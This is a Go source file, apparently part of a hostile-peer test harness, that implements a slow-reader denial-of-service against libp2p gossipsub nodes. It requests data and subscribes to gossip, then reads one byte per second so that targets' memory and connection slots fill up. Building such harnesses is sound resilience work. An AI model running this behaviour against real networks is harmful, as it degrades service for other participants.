package hostile

import (
	"context"
	"encoding/binary"
	"io"
	"time"

	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	libprotocol "github.com/libp2p/go-libp2p/core/protocol"
	"google.golang.org/protobuf/proto"
)

// gossipProtocol is what gossip is spoken in.
const gossipProtocol = libprotocol.ID("/meshsub/1.1.0")

// slowReader asks for as much as it may on several streams, subscribes to the gossip, and hardly
// reads any of it. What is meant for it stays in its targets' memory, and holds places that others
// wait for.
func slowReader(a *attacker) behavior {
	a.host.SetStreamHandler(gossipProtocol, func(s network.Stream) { _ = a.sip(s) })
	return behavior{silent: true, attack: func(ctx context.Context, target peer.ID) error {
		a.running.Go(func() { _ = a.learn(ctx, target) })
		a.running.Go(func() { _ = a.subscribe(ctx, target) })
		return every(ctx, 200*time.Millisecond, 1000, func(int) error {
			wanted := a.memory.some(255)
			if len(wanted) == 0 {
				return nil
			}
			a.running.Go(func() {
				_ = a.with(ctx, target, "fetch", func(s network.Stream) error {
					if _, err := s.Write(appendRequest(nil, wanted, 255)); err != nil {
						return err
					}
					_ = s.CloseWrite()
					return a.sip(s)
				})
			})
			return nil
		})
	}}
}

// sip reads a byte at a time.
func (a *attacker) sip(s network.Stream) error {
	var b [1]byte
	for {
		if _, err := s.Read(b[:]); err != nil {
			return endOf(err)
		}
		select {
		case <-time.After(time.Second):
		case <-a.over:
			return nil
		}
	}
}

// subscribe has a target send gossip here.
func (a *attacker) subscribe(ctx context.Context, target peer.ID) error {
	s, err := a.host.NewStream(network.WithNoDial(ctx, "attack"), target, gossipProtocol)
	if err != nil {
		return err
	}
	defer func() { _ = s.Reset() }()
	yes, topic := true, a.topicName()
	rpc := pb.RPC{Subscriptions: []*pb.RPC_SubOpts{{Subscribe: &yes, Topicid: &topic}}}
	raw, err := proto.Marshal(&rpc)
	if err != nil {
		return err
	}
	if _, err := s.Write(append(binary.AppendUvarint(nil, uint64(len(raw))), raw...)); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, s)
	return err
}
